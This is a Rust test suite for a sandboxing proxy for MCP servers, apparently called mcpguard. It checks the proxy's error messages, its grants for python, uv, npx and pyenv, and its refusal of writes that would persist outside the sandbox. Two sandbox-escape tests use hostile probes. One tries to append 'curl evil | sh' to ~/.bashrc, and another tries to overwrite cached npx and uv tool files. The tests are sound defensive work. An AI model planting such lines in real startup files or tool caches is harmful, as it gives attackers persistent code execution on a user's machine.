//! Servers as people launch them, under the default sandbox: what works without hand-written
//! policy, and, when a grant is missing, an error that says what the sandbox most likely denied
//! and which flag or key grants it (issue 12). The servers are small real python programs
//! written by each test (a stdio JSON-RPC loop), run by the system's python.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::{mcpguard, run_bounded};

/// A scratch world with its own HOME and the default sandbox profile.
pub(crate) struct World {
    pub dir: tempfile::TempDir,
    pub home: PathBuf,
    pub policy: PathBuf,
}

impl World {
    pub fn new() -> World {
        crate::sandbox::require_landlock();
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        std::fs::create_dir(&home).unwrap();
        let policy = dir.path().join("default-sandbox.toml");
        std::fs::write(&policy, "[sandbox]\nmode = \"require\"\n").unwrap();
        World { dir, home, policy }
    }

    pub fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// `mcpguard capture --policy P [opts] -- command`, with HOME in the scratch world.
    pub fn capture(&self, opts: &[&str], command: &[&str]) -> Output {
        let out = self.path("snap.json");
        let _ = std::fs::remove_file(&out);
        let mut cmd = Command::new(mcpguard());
        cmd.args(["capture", "--server", "s", "--out"])
            .arg(&out)
            .arg("--policy")
            .arg(&self.policy)
            .args(opts)
            .arg("--")
            .args(command)
            .env("HOME", &self.home);
        run_bounded(&mut cmd)
    }
}

pub(crate) fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

pub(crate) fn show(o: &Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status,
        text(&o.stdout),
        text(&o.stderr)
    )
}

/// The system's python (a real interpreter, not a version manager's shim).
pub(crate) fn python() -> &'static str {
    let p = "/usr/bin/python3";
    assert!(Path::new(p).exists(), "{p} is needed for these tests");
    p
}

/// A minimal MCP server in python: answers `initialize` and `tools/list` with one tool whose
/// description comes from `describe()`, which `prelude` defines (so a test can make it import a
/// sibling module or read a file first).
pub(crate) fn server_source(prelude: &str) -> String {
    format!(
        r#"import json, sys
{prelude}
for line in sys.stdin:
    m = json.loads(line)
    if "id" not in m:
        continue
    if m["method"] == "initialize":
        r = {{"protocolVersion": m["params"]["protocolVersion"], "capabilities": {{"tools": {{}}}},
             "serverInfo": {{"name": "py-shape", "version": "1.0.0"}}}}
    elif m["method"] == "tools/list":
        r = {{"tools": [{{"name": "hello", "description": describe(),
                         "inputSchema": {{"type": "object"}}}}]}}
    else:
        r = {{}}
    print(json.dumps({{"jsonrpc": "2.0", "id": m["id"], "result": r}}), flush=True)
"#
    )
}

fn assert_all(s: &str, wants: &[&str]) {
    for w in wants {
        assert!(s.contains(w), "missing {w:?} in:\n{s}");
    }
}

/// A script in the home directory: its folder is HOME, which is never granted automatically, so
/// python cannot open it. The capture error says so and how to grant it.
#[test]
fn a_script_the_sandbox_cannot_read_is_explained_with_the_flag_and_the_command() {
    let w = World::new();
    let script = w.home.join("server.py");
    std::fs::write(&script, server_source("def describe(): return 'x'")).unwrap();
    let script = script.display().to_string();
    let out = w.capture(&[], &[python(), &script]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = text(&out.stderr);
    assert_all(
        &err,
        &[
            "capture failed: the server exited with status 2 before answering initialize",
            "the server ran in mcpguard's sandbox, which may have denied it something it needs",
            "Permission denied",
            "(EACCES)",
            &format!("{script} is outside the sandbox's grants; grant --sandbox-read {script} (sandbox.read in the policy)"),
            "never granted whole",
            &format!(
                "try it with: mcpguard sandbox-check --policy {} --sandbox-read {script} -- {} {script}",
                w.policy.display(),
                python()
            ),
        ],
    );
}

/// A server that reads a data file outside its grants at start: the error names the file's
/// folder with `--sandbox-read`, and the suggested command keeps the grants of the run.
#[test]
fn a_server_reading_a_file_outside_the_grants_is_explained() {
    let w = World::new();
    let srv = w.path("srv");
    let data = w.path("data");
    std::fs::create_dir_all(&srv).unwrap();
    std::fs::create_dir_all(&data).unwrap();
    let notes = data.join("notes.json");
    std::fs::write(&notes, "{}").unwrap();
    let script = srv.join("server.py");
    std::fs::write(
        &script,
        server_source(&format!(
            "open({:?}).read()\ndef describe(): return 'x'",
            notes.display().to_string()
        )),
    )
    .unwrap();
    let (srv_s, data_s, script_s) = (
        srv.display().to_string(),
        data.display().to_string(),
        script.display().to_string(),
    );
    let out = w.capture(&["--sandbox-read", &srv_s], &[python(), &script_s]);
    assert!(!out.status.success(), "{}", show(&out));
    assert_all(
        &text(&out.stderr),
        &[
            "exited with status 1 before answering initialize",
            "PermissionError: [Errno 13] Permission denied",
            &format!("{} is outside the sandbox's grants; grant --sandbox-read {data_s} (sandbox.read in the policy), --sandbox-write {data_s} if the server writes there (sandbox.read_write)", notes.display()),
            &format!("sandbox-check --policy {} --sandbox-read {srv_s} --sandbox-read {data_s} -- ", w.policy.display()),
        ],
    );
    // The suggested grant is the fix.
    let fixed = w.capture(
        &["--sandbox-read", &srv_s, "--sandbox-read", &data_s],
        &[python(), &script_s],
    );
    assert!(fixed.status.success(), "{}", show(&fixed));
}

/// Status 126 from a program the sandbox does not let run, through the proxy: the error names
/// sandbox.execute.
#[test]
fn the_proxy_explains_a_sandboxed_server_that_exits_126() {
    let w = World::new();
    let bin = w.path("bin");
    std::fs::create_dir(&bin).unwrap();
    let tool = bin.join("tool");
    std::fs::copy("/usr/bin/true", &tool).unwrap();
    let mut cmd = Command::new(mcpguard());
    cmd.arg("--policy")
        .arg(&w.policy)
        .args(["--", "sh", "-c"])
        .arg(&tool)
        .env("HOME", &w.home);
    let out = run_bounded(&mut cmd);
    assert_eq!(out.status.code(), Some(126), "{}", show(&out));
    assert_all(
        &text(&out.stderr),
        &[
            "the server exited with status 126 before answering anything",
            "status 126 means a program could not be executed",
            "sandbox.execute",
            &format!(
                "{} is outside the sandbox's grants and cannot be executed; add {} to sandbox.execute",
                tool.display(),
                bin.display()
            ),
            "try it with: mcpguard sandbox-check --policy",
        ],
    );
}

/// A server that never answers: the timeout error says the sandbox has no network.
#[test]
fn a_sandboxed_timeout_is_explained() {
    let w = World::new();
    let out = w.capture(&["--timeout", "1s"], &["sh", "-c", "sleep 10"]);
    assert!(!out.status.success(), "{}", show(&out));
    assert_all(
        &text(&out.stderr),
        &[
            "the server did not answer initialize within 1s",
            "inside the sandbox there is no network",
            "try it with: mcpguard sandbox-check",
        ],
    );
}

/// A folder holding a server script that imports a module beside it.
fn script_with_sibling(w: &World) -> (PathBuf, PathBuf) {
    let srv = w.path("srv");
    std::fs::create_dir_all(srv.join("pkg")).unwrap();
    std::fs::write(
        srv.join("helper.py"),
        "def describe():\n    return 'described by the sibling module'\n",
    )
    .unwrap();
    let script = srv.join("server.py");
    std::fs::write(&script, server_source("from helper import describe")).unwrap();
    (srv, script)
}

/// `python /abs/dir/server.py`, the script importing `helper.py` beside it: the python preset
/// grants the script's folder (read only), so it runs under `sandbox-check` and captures with no
/// option at all.
#[test]
fn a_python_script_importing_a_sibling_module_runs_without_options() {
    let w = World::new();
    let (srv, script) = script_with_sibling(&w);
    let probe = srv.join("probe.py");
    std::fs::write(
        &probe,
        "import helper, os\nprint('imported:', helper.describe())\ntry:\n    open(os.path.join(os.path.dirname(__file__), 'new'), 'w')\n    print('wrote')\nexcept OSError as e:\n    print('not writable:', e.errno)\n",
    )
    .unwrap();
    let mut cmd = Command::new(mcpguard());
    cmd.args(["sandbox-check", "--policy"])
        .arg(&w.policy)
        .args(["--", python()])
        .arg(&probe)
        .env("HOME", &w.home);
    let out = run_bounded(&mut cmd);
    assert!(out.status.success(), "{}", show(&out));
    let s = text(&out.stdout);
    assert_all(
        &s,
        &[
            &format!(
                "read               {}  (preset python: the folder of the script {}",
                srv.display(),
                probe.display()
            ),
            "imported: described by the sibling module",
        ],
    );
    assert!(
        !s.contains("wrote") && !srv.join("new").exists(),
        "the script's folder is read-only: {s}"
    );

    let out = w.capture(&[], &[python(), script.to_str().unwrap()]);
    assert!(out.status.success(), "{}", show(&out));
    let snap = std::fs::read_to_string(w.path("snap.json")).unwrap();
    assert!(snap.contains("described by the sibling module"), "{snap}");
}

/// `python -m pkg` started in the folder that holds `pkg`: that folder is granted (read), as
/// python puts the current directory on `sys.path`.
#[test]
fn python_dash_m_from_the_project_folder_captures_without_options() {
    let w = World::new();
    let (srv, _) = script_with_sibling(&w);
    std::fs::write(srv.join("pkg/__init__.py"), "").unwrap();
    std::fs::write(
        srv.join("pkg/__main__.py"),
        server_source("from helper import describe"),
    )
    .unwrap();
    let out = w.path("snap.json");
    let mut cmd = Command::new(mcpguard());
    cmd.args(["capture", "--server", "s", "--out"])
        .arg(&out)
        .arg("--policy")
        .arg(&w.policy)
        .args(["--", python(), "-m", "pkg"])
        .current_dir(&srv)
        .env("HOME", &w.home);
    let o = run_bounded(&mut cmd);
    assert!(o.status.success(), "{}", show(&o));
    assert!(std::fs::read_to_string(&out)
        .unwrap()
        .contains("described by the sibling module"));
}

/// `UV_CACHE_DIR` and `npm_config_cache` name the user's caches, which the presets grant
/// read-only; the server gets each pointed at its own private cache (the one granted for
/// write), and the report says so.
#[test]
fn variables_the_presets_granted_paths_from_reach_the_server() {
    let w = World::new();
    let uv = w.path("uv-cache");
    let npm = w.path("npm-cache");
    std::fs::create_dir(&uv).unwrap();
    std::fs::create_dir(&npm).unwrap();
    let run = |command: &[&str]| {
        let mut cmd = Command::new(mcpguard());
        cmd.args(["sandbox-check", "--policy"])
            .arg(&w.policy)
            .arg("--")
            .args(command)
            .env("HOME", &w.home)
            .env("UV_CACHE_DIR", &uv)
            .env("npm_config_cache", &npm);
        run_bounded(&mut cmd)
    };
    let private = w.home.join(".local/state/mcpguard/server-caches");
    let out = run(&[
        python(),
        "-c",
        "import os; print('uv=[%s]' % os.environ.get('UV_CACHE_DIR'))",
    ]);
    assert!(out.status.success(), "{}", show(&out));
    let said = text(&out.stdout);
    assert_all(
        &said,
        &[
            "UV_CACHE_DIR passed with the value a preset granted (preset python: the server's private cache",
            &format!("uv=[{}/", private.display()),
        ],
    );
    assert!(!said.contains(&format!("uv=[{}]", uv.display())), "{said}");
    let node = "/usr/bin/node";
    if !Path::new(node).exists() {
        println!("skipping the node half: {node} is not installed");
        return;
    }
    let out = run(&[
        node,
        "-e",
        "console.log('npm=[' + process.env.npm_config_cache + ']')",
    ]);
    assert!(out.status.success(), "{}", show(&out));
    assert_all(
        &text(&out.stdout),
        &[
            "npm_config_cache passed with the value a preset granted (preset node: the server's private cache",
            &format!("npm=[{}/", private.display()),
        ],
    );
}

/// Issue 31: a writable grant never changes what runs outside the sandbox. The presets granted
/// the npm cache (where `npx` keeps the packages it runs) and uv's data folder (where `uv tool`
/// and `uvx` keep installed tools) for write to every server of their kind: a server rewrote a
/// cached npx package and an installed uv tool, which then ran outside any sandbox. Now both
/// trees are read-only to the server; the same writes work unsandboxed, and the later
/// unsandboxed runs are unchanged.
#[test]
fn a_sandboxed_server_cannot_rewrite_what_npx_or_uv_run_later() {
    let w = World::new();
    let npm = w.path("npm-cache");
    let npx_pkg = npm.join("_npx/0123abcd/node_modules/demo");
    std::fs::create_dir_all(&npx_pkg).unwrap();
    let npx_entry = npx_pkg.join("index.js");
    std::fs::write(&npx_entry, "console.log('original npx package')\n").unwrap();
    let uv_cache = w.path("uv-cache");
    std::fs::create_dir(&uv_cache).unwrap();
    let tool_bin = w.home.join(".local/share/uv/tools/demo/bin");
    std::fs::create_dir_all(&tool_bin).unwrap();
    let tool = tool_bin.join("demo");
    std::fs::write(&tool, "#!/bin/sh\necho original uv tool\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    // The node server writes into the npm cache, the python server into uv's tool folder.
    let node_code = format!(
        "try {{ require('fs').writeFileSync({:?}, \"console.log('PLANTED')\\n\"); console.log('WROTE') }} catch (e) {{ console.log('DENIED', e.code) }}",
        npx_entry.display().to_string()
    );
    let py_code = format!(
        "try:\n    open({:?}, 'w').write('#!/bin/sh\\necho PLANTED\\n'); print('WROTE')\nexcept OSError as e:\n    print('DENIED', e.errno)\n",
        tool.display().to_string()
    );
    let node = "/usr/bin/node";
    let sandboxed = |program: &str, code: &str| {
        run_bounded(
            Command::new(mcpguard())
                .args(["sandbox-check", "--policy"])
                .arg(&w.policy)
                .args([
                    "--",
                    program,
                    if program == node { "-e" } else { "-c" },
                    code,
                ])
                .env("HOME", &w.home)
                .env("UV_CACHE_DIR", &uv_cache)
                .env("npm_config_cache", &npm),
        )
    };
    for (program, code) in [(node, &node_code), (python(), &py_code)] {
        let out = sandboxed(program, code);
        let said = text(&out.stdout);
        assert!(
            !said.contains("WROTE") && said.contains("DENIED"),
            "{program}: {}",
            show(&out)
        );
    }
    // The later runs outside the sandbox run what was there.
    let run_npx = run_bounded(Command::new(node).arg(&npx_entry));
    assert_eq!(
        text(&run_npx.stdout),
        "original npx package\n",
        "{}",
        show(&run_npx)
    );
    let run_tool = run_bounded(&mut Command::new(&tool));
    assert_eq!(
        text(&run_tool.stdout),
        "original uv tool\n",
        "{}",
        show(&run_tool)
    );
    // Unsandboxed the same writes work: the probes are real.
    for (program, flag, code) in [(node, "-e", &node_code), (python(), "-c", &py_code)] {
        let direct = run_bounded(Command::new(program).args([flag, code.as_str()]));
        assert!(text(&direct.stdout).contains("WROTE"), "{}", show(&direct));
    }
}

/// Issue 31: a writable grant that holds what the user's shell, ssh, git or mcpguard run or
/// trust later (here the home directory, with `~/.bashrc`) is refused before the server
/// starts, naming the files and what to grant instead; before, the server appended to
/// `~/.bashrc`.
#[test]
fn a_writable_grant_holding_shell_start_up_files_is_refused() {
    let w = World::new();
    let rc = w.home.join(".bashrc");
    std::fs::write(&rc, "# the user's\n").unwrap();
    let code = format!(
        "open({:?}, 'a').write('curl evil | sh\\n'); print('WROTE')",
        rc.display().to_string()
    );
    let out = run_bounded(
        Command::new(mcpguard())
            .args(["sandbox-check", "--policy"])
            .arg(&w.policy)
            .arg("--sandbox-write")
            .arg(&w.home)
            .args(["--", python(), "-c", &code])
            .env("HOME", &w.home),
    );
    assert!(!text(&out.stdout).contains("WROTE"), "{}", show(&out));
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# the user's\n");
    assert!(!out.status.success(), "{}", show(&out));
    let err = text(&out.stderr);
    assert_all(
        &err,
        &[
            "--sandbox-write grants",
            &rc.display().to_string(),
            "Grant the folder the server works on instead",
        ],
    );
    // A project folder inside the home directory is granted as before.
    let project = w.home.join("project");
    std::fs::create_dir(&project).unwrap();
    let code = format!(
        "open({:?}, 'w').write('x'); print('WROTE')",
        project.join("notes.txt").display().to_string()
    );
    let out = run_bounded(
        Command::new(mcpguard())
            .args(["sandbox-check", "--policy"])
            .arg(&w.policy)
            .arg("--sandbox-write")
            .arg(&project)
            .args(["--", python(), "-c", &code])
            .env("HOME", &w.home),
    );
    assert!(text(&out.stdout).contains("WROTE"), "{}", show(&out));
}

/// The pyenv installation of the user running the tests, when there is one with a python3 shim.
fn pyenv_shim() -> Option<(PathBuf, PathBuf)> {
    let root = std::env::var_os("PYENV_ROOT")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| Path::new(&h).join(".pyenv")))?;
    let shim = root.join("shims/python3");
    if !shim.is_file() {
        println!(
            "skipping: no pyenv shim at {} (pyenv is not installed for this user)",
            shim.display()
        );
        return None;
    }
    Some((root, shim))
}

/// `python3` found on PATH as a real pyenv shim (a shell script that runs ~/.pyenv's libexec):
/// mcpguard reads the version pyenv would pick, runs that interpreter under the sandbox (without
/// running the shim, and without granting ~/.pyenv whole), and the server captures with no
/// option; PYENV_VERSION picks another installed version the same way pyenv would.
#[test]
fn a_pyenv_shim_runs_the_interpreter_it_selects() {
    let Some((root, shim)) = pyenv_shim() else {
        return;
    };
    let w = World::new();
    let (srv, script) = script_with_sibling(&w);
    let path = format!("{}:/usr/bin:/bin", shim.parent().unwrap().display());
    let check = |extra_env: &[(&str, &str)], probe: &str| {
        let mut cmd = Command::new(mcpguard());
        cmd.args(["sandbox-check", "--policy"])
            .arg(&w.policy)
            .args(["--", "python3", "-c", probe])
            .current_dir(&srv)
            .env("HOME", &w.home)
            .env("PATH", &path)
            .env_remove("PYENV_VERSION");
        for (k, v) in extra_env {
            cmd.env(k, v);
        }
        run_bounded(&mut cmd)
    };
    let out = check(&[], "import sys; print('prefix=' + sys.prefix)");
    let s = text(&out.stdout);
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        s.contains(&format!(
            "({} is a pyenv shim; running the interpreter it selects, pyenv version",
            shim.display()
        )),
        "{s}"
    );
    let prefix = s
        .lines()
        .find_map(|l| l.strip_prefix("prefix="))
        .expect("the interpreter ran");
    assert!(
        prefix.starts_with(&root.join("versions").display().to_string()),
        "{s}"
    );
    assert!(
        !s.contains(&format!("execute            {}  ", root.display())),
        "the whole pyenv tree is never granted: {s}"
    );

    // Another installed version, chosen by PYENV_VERSION as pyenv would.
    let installed: Vec<String> = std::fs::read_dir(root.join("versions"))
        .map(|d| {
            d.filter_map(Result::ok)
                .filter(|e| e.path().join("bin/python3").is_file())
                .filter_map(|e| e.file_name().to_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    if let Some(other) = installed
        .iter()
        .find(|v| !prefix.ends_with(&format!("/{v}")))
    {
        let out = check(
            &[("PYENV_VERSION", other)],
            "import sys; print('prefix=' + sys.prefix)",
        );
        assert!(out.status.success(), "{}", show(&out));
        assert!(
            text(&out.stdout).contains(&format!(
                "prefix={}",
                root.join("versions").join(other).display()
            )),
            "{}",
            show(&out)
        );
    }

    // The capture of a server launched through the shim, with no option.
    let mut cmd = Command::new(mcpguard());
    cmd.args(["capture", "--server", "s", "--out"])
        .arg(w.path("snap.json"))
        .arg("--policy")
        .arg(&w.policy)
        .args(["--", "python3"])
        .arg(&script)
        .env("HOME", &w.home)
        .env("PATH", &path)
        .env_remove("PYENV_VERSION");
    let out = run_bounded(&mut cmd);
    assert!(out.status.success(), "{}", show(&out));
    assert!(std::fs::read_to_string(w.path("snap.json"))
        .unwrap()
        .contains("described by the sibling module"));
}

/// uv for the `uv run` shape: `MCPGUARD_TEST_UV`, else `.peers/uv/bin/uv` (installed pinned by
/// `scripts/install-peers.sh`), else `uv` on PATH.
fn uv() -> Option<PathBuf> {
    let peers = Path::new(env!("CARGO_MANIFEST_DIR")).join(".peers/uv/bin/uv");
    let found = std::env::var_os("MCPGUARD_TEST_UV")
        .map(PathBuf::from)
        .or_else(|| peers.is_file().then_some(peers))
        .or_else(|| {
            std::env::split_paths(&std::env::var_os("PATH")?)
                .map(|d| d.join("uv"))
                .find(|p| p.is_file())
        });
    if found.is_none() {
        println!("skipping: no uv (set MCPGUARD_TEST_UV, or install it into .peers/uv)");
    }
    found
}

/// `uv run --directory D server.py` of a project synced beforehand: the preset grants the
/// project (read) and its `.venv`, and UV_CACHE_DIR reaches uv with the granted value, so the
/// server captures with no option and without the network (the sandbox has none).
#[test]
fn uv_run_directory_captures_without_options() {
    let Some(uv) = uv() else {
        return;
    };
    let w = World::new();
    let (proj, _) = script_with_sibling(&w);
    std::fs::write(
        proj.join("pyproject.toml"),
        "[project]\nname = \"shape\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = []\n",
    )
    .unwrap();
    let cache = w.path("uv-cache");
    let sync = run_bounded(
        Command::new(&uv)
            .args(["sync", "--directory"])
            .arg(&proj)
            .env("HOME", &w.home)
            .env("UV_CACHE_DIR", &cache)
            .env("UV_PYTHON", python())
            .env("UV_OFFLINE", "1"),
    );
    assert!(sync.status.success(), "uv sync: {}", show(&sync));
    let mut cmd = Command::new(mcpguard());
    cmd.args(["capture", "--server", "s", "--out"])
        .arg(w.path("snap.json"))
        .arg("--policy")
        .arg(&w.policy)
        .arg("--")
        .arg(&uv)
        .args(["run", "--directory"])
        .arg(&proj)
        .arg("server.py")
        .current_dir("/")
        .env("HOME", &w.home)
        .env("UV_CACHE_DIR", &cache);
    let out = run_bounded(&mut cmd);
    assert!(out.status.success(), "{}", show(&out));
    assert!(std::fs::read_to_string(w.path("snap.json"))
        .unwrap()
        .contains("described by the sibling module"));
}

/// `<venv>/bin/python /abs/server.py` with the peers' virtual environment: the venv, its base
/// interpreter and the script's folder are granted, so it captures with no option.
#[test]
fn a_venv_interpreter_running_a_script_captures_without_options() {
    let venv_python = Path::new(env!("CARGO_MANIFEST_DIR")).join(".peers/venv/bin/python");
    if !venv_python.exists() {
        println!(
            "skipping: no {} (run scripts/install-peers.sh)",
            venv_python.display()
        );
        return;
    }
    let w = World::new();
    let (_, script) = script_with_sibling(&w);
    let out = w.capture(
        &[],
        &[venv_python.to_str().unwrap(), script.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", show(&out));
    assert!(std::fs::read_to_string(w.path("snap.json"))
        .unwrap()
        .contains("described by the sibling module"));
}

/// A live `check` runs the server in the same sandbox, and explains its failure the same way.
#[test]
fn a_live_check_explains_a_sandboxed_failure() {
    let w = World::new();
    let (_, script) = script_with_sibling(&w);
    let out = w.capture(&[], &[python(), script.to_str().unwrap()]);
    assert!(out.status.success(), "{}", show(&out));
    let in_home = w.home.join("server.py");
    std::fs::copy(&script, &in_home).unwrap();
    let mut cmd = Command::new(mcpguard());
    cmd.arg("check")
        .arg(w.path("snap.json"))
        .arg("--policy")
        .arg(&w.policy)
        .args(["--", python()])
        .arg(&in_home)
        .env("HOME", &w.home);
    let out = run_bounded(&mut cmd);
    assert!(!out.status.success(), "{}", show(&out));
    assert_all(
        &text(&out.stderr),
        &[
            "live check of server \"s\" failed: the server exited with status 2 before answering initialize",
            "which may have denied it something it needs",
            &format!("grant --sandbox-read {}", in_home.display()),
        ],
    );
}

/// A server started through a container runtime: the daemon starts it, outside anything the
/// sandbox can confine. Under `require` (the default) that is refused with the key that changes
/// it; under `best-effort` the server runs gated only, with a warning that says so. The "docker"
/// here is a real MCP server script under that name, standing in for the client.
#[test]
fn a_container_runtime_is_refused_under_require_and_runs_gated_only_under_best_effort() {
    let w = World::new();
    let bin = w.path("bin");
    std::fs::create_dir(&bin).unwrap();
    let docker = bin.join("docker");
    std::fs::write(
        &docker,
        format!(
            "#!{}\n{}",
            python(),
            server_source("def describe(): return 'x'")
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&docker, std::fs::Permissions::from_mode(0o755)).unwrap();
    let docker = docker.display().to_string();
    let out = w.capture(&[], &[&docker, "run", "-i", "--rm", "mcp/time"]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    assert_all(
        &text(&out.stderr),
        &[
            "refusing to start the server: the server command runs docker",
            "the daemon is outside any sandbox mcpguard can apply",
            "sandbox.mode = \"best-effort\"",
        ],
    );
    std::fs::write(&w.policy, "[sandbox]\nmode = \"best-effort\"\n").unwrap();
    let out = w.capture(&[], &[&docker, "run", "-i", "--rm", "mcp/time"]);
    assert!(out.status.success(), "{}", show(&out));
    assert_all(
        &text(&out.stderr),
        &[
            "sandbox (best-effort): NOT applied: the server command runs docker",
            "the gate still applies",
        ],
    );
}

/// The private caches are a bounded set: every distinct server command left one behind, never
/// removed. A start removes the caches unused for 30 days and those beyond the 32 most recently
/// used, but never one a running session holds, and keeps its own.
#[test]
fn private_caches_unused_for_long_are_removed_and_one_in_use_stays() {
    let w = World::new();
    let caches = w.home.join(".local/state/mcpguard/server-caches");
    std::fs::create_dir_all(&caches).unwrap();
    let now = std::time::SystemTime::now();
    let hour = std::time::Duration::from_secs(3_600);
    let make = |id: &str, hours: u32| {
        std::fs::create_dir_all(caches.join(id).join("uv/blob")).unwrap();
        let lock = std::fs::File::create(caches.join(format!("{id}.lock"))).unwrap();
        lock.set_modified(now - hour * hours).unwrap();
    };
    make("old", 45 * 24);
    make("busy", 60 * 24);
    for i in 0..40 {
        make(&format!("recent{i:02}"), 1 + i);
    }
    // A session that runs: it holds the shared lock (as mcpguard does, with flock).
    let busy = std::fs::File::open(caches.join("busy.lock")).unwrap();
    let fd = std::os::fd::AsRawFd::as_raw_fd(&busy);
    // SAFETY: flock on a descriptor the File owns.
    let locked = unsafe { libc::flock(fd, libc::LOCK_SH) };
    assert_eq!(locked, 0);
    let out = run_bounded(
        Command::new(mcpguard())
            .args(["sandbox-check", "--policy"])
            .arg(&w.policy)
            .args(["--", python(), "-c", "pass"])
            .env("HOME", &w.home),
    );
    assert!(out.status.success(), "{}", show(&out));
    let left: Vec<String> = std::fs::read_dir(&caches)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".lock"))
        .collect();
    assert!(!left.contains(&"old".to_string()), "{left:?}");
    assert!(left.contains(&"busy".to_string()), "{left:?}");
    // 32 kept: this run's own cache and the 31 most recent others (the busy one beside them).
    assert_eq!(left.len(), 33, "{left:?}");
    assert!(left.contains(&"recent30".to_string()), "{left:?}");
    assert!(!left.contains(&"recent31".to_string()), "{left:?}");
    drop(busy);
}
